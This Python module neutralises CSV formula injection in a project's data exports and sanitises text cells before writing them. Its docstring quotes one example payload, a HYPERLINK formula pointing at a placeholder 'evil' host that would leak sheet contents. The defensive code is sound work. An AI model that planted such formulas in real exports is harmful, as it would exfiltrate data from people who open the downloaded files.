"""Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula is written inert.

A cell that starts with ``= + - @``, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula (OWASP, "CSV Injection"): ``=HYPERLINK("http://evil/?"&A1)`` in a post's
text would leak the sheet or run a command when someone opens a download. Every CSV govsocial
writes (registry exports, the open-data downloads, ``metrics compute --out x.csv``) passes its text
cells through ``protect``, which puts an apostrophe before them; numbers are written as numbers and
never protected, so ``-3`` stays a number. ``unprotect`` undoes it when govsocial reads its own
files back (registry imports).
"""

from __future__ import annotations

#: What a spreadsheet reads as the start of a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def protect(cell: str) -> str:
    """Neutralise spreadsheet formulas: ``=HYPERLINK(...)`` is written ``'=HYPERLINK(...)``."""
    return "'" + cell if cell.startswith(FORMULA_PREFIXES) else cell


def unprotect(cell: str) -> str:
    """Undo ``protect``."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_PREFIXES) else cell
